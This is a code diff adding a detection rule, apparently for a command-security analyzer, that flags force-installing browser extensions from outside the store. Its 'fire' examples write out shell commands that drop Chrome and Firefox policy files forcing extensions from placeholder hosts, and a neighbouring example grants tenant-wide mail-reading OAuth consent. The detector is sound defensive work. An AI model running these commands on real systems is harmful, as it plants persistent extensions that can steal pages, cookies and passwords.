@@ -1,6 +1,7 @@
 import { ruleAnalyzer, perCall, hasShortFlag, hasArg, nestedUnder, operands, type AnalysisInput, type Rule } from '../rule.js';
 import { tenantWideConsent } from '../knowledge/mail-and-tenant.js';
 import { objectsOf } from './askable.js';
+import { extensionForced } from '../knowledge/desktop-session.js';
 import type { SimpleCommand } from '../shell/types.js';
 import { readSedScript, sedInsertions } from '../shell/sed-script.js';
 import { baseName } from '../shell/names.js';
@@ -1872,6 +1873,25 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: [{ Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/oauth2PermissionGrants', body: '{"clientId": "a1c9e7f3", "consentType": "AllPrincipals", "resourceId": "e2a7c4b1", "scope": "Mail.Read Mail.Send Files.Read.All"}' } }],
       quiet: [{ Network: { method: 'GET', url: 'https://graph.microsoft.com/v1.0/oauth2PermissionGrants' } }, { Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/oauth2PermissionGrants', body: '{"clientId": "a1c9e7f3", "consentType": "Principal", "principalId": "u1", "resourceId": "e2a7c4b1", "scope": "User.Read"}' } }],
+    },
+  },
+  {
+    id: 'PX-PERSIST-053', name: 'forces-browser-extension', score: 80, tactic: 'persistence', technique: 'T1176',
+    message: "Forces a browser extension from outside the browser's store into every profile, through a managed policy or an external extension manifest",
+    why: 'A force-installed extension reads every page, cookie and typed password in every profile, and the user cannot remove it: the way browser-stealer campaigns stay.',
+    alternative: "Install extensions from the browser's store; force one by policy only from the store's update URL, through the company's device management.",
+    check: (i) => writes(i).filter((w) => extensionForced(w.canonical, w.text)).map((w) => `${w.cmd?.name ?? 'write'} ${w.path}: ${w.text.slice(0, 100)}`),
+    examples: {
+      fire: [
+        `sudo mkdir -p /etc/opt/chrome/policies/managed && echo '{"ExtensionInstallForcelist":["kbfnbcaeplbcioakkpcpgfkobkghlhen;https://ext-cdn.example.net/update.xml"]}' | sudo tee /etc/opt/chrome/policies/managed/corp.json`,
+        `echo '{"policies":{"Extensions":{"Install":["https://addons-cdn.example.org/tabsync.xpi"]}}}' | sudo tee /usr/lib/firefox/distribution/policies.json`,
+        `echo '{"external_update_url":"https://ext.example-cdn.io/crx/update.xml"}' | sudo tee /usr/share/google-chrome/extensions/aapbdbdomjkkjkaonfhkkikfgjllcleb.json`,
+      ],
+      quiet: [
+        `echo '{"ExtensionInstallForcelist":["cjpalhdlnbpafiamejdnhcphjbkeiagm;https://clients2.google.com/service/update2/crx"]}' | sudo tee /etc/opt/chrome/policies/managed/ublock.json`,
+        `echo '{"policies":{"DisableTelemetry":true}}' | sudo tee /usr/lib/firefox/distribution/policies.json`,
+        `echo '{"HomepageLocation":"https://intranet.acme.com"}' | sudo tee /etc/opt/chrome/policies/managed/home.json`,
+      ],
     },
   },
 ];
